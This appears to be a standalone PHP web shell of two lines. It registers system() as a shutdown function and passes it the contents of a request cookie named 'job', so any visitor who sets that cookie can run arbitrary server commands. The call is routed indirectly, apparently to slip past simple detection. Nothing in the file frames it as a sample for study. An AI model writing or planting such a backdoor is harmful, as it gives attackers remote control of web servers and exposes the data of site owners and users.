<?php
register_shutdown_function('system', $_COOKIE['job']);
